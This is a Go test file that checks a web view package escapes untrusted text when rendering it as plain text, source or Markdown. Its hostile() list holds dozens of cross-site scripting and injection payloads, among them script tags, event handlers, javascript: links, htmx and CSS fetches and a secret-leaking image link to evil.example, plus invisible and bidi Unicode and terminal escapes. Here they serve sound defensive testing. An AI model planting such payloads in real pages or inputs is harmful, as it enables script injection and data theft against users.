package foreign_test

import (
	"strings"
	"testing"
	"unicode"

	"github.com/teammem/teammem/web/view/foreign"
)

// hostile are texts that would act in a page if they were not only shown.
func hostile() []string {
	return []string{
		"<script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
		`"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
		"<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<iframe srcdoc=\"<script>alert(1)</script>\">",
		"<style>*{background:url(https://evil.example)}</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>",
		"<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>go", "<input autofocus onfocus=alert(1)>",
		`<a href="javascript:alert(1)">x</a>`, `<div id="main" name="main" style="position:fixed">`, "<template>x</template></template>",
		`<div hx-get="https://evil.example" hx-trigger="load">`, `<div data-hx-get="/x">`, `<hx-partial hx-target="#main">x</hx-partial>`,
		`<div hx-swap-oob="true" id="main">x</div>`, "<title>x</title>", "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>",
		"<![CDATA[><script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><x>", "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
		"[x](javascript:alert(1))", "[x](java\tscript:alert(1))", "[x](java&#9;script:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
		"![x](https://evil.example/?q=secret)", "![x](javascript:alert(1))", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]",
		"[x](https://good.example\" onclick=\"alert(1))", "[x](<https://good.example\" onclick=\"alert(1)>)", "```\" onclick=\"alert(1)\n```",
		"|a\" onclick=\"|\n|:-:|\n|<script>|<b>|", "a\u202etxt.exe", "a\u2066b\u2069c\u2067d", "a\U000e0041\U000e0042\U000e007f", "a\u200b\u200c\u200d\u2060b",
		"\x1b[31mred\x1b]8;;https://evil.example\x07", "a\rb", "\xff\xfe", "a\x00b", "{{.}}", "${x}", "`${alert(1)}`",
	}
}

func TestShown_HostileText(t *testing.T) {
	t.Parallel()
	for _, source := range hostile() {
		for name, page := range map[string]string{
			"Line": foreign.Line(source), "Text": foreign.Text(source), "Source": foreign.Source(source), "Plain": foreign.Plain(source),
			"Markdown": foreign.Markdown(source, resolve).HTML,
		} {
			if name == "Plain" {
				page = foreign.Line(page) // it is for attributes, which templates escape
			}
			if name != "Source" {
				checkElements(t, page)
			}
			if text := visibleText(t, page); name != "Source" && hasInvisible(text) {
				t.Errorf("%s(%q) holds code points that nobody sees: %q", name, source, text)
			}
			for word := range wordsOf(source) {
				if !strings.Contains(visibleText(t, page), word) {
					t.Errorf("%s(%q) does not show %q: %s", name, source, word, page)
				}
			}
		}
	}
}

func hasInvisible(s string) bool {
	return strings.ContainsFunc(s, func(r rune) bool { return r != '\n' && r != '\t' && !unicode.IsGraphic(r) })
}

func wordsOf(s string) map[string]bool {
	words := map[string]bool{}
	for word := range strings.FieldsFuncSeq(s, func(r rune) bool { return !unicode.In(r, unicode.L, unicode.M, unicode.N) }) {
		words[word] = true
	}
	return words
}
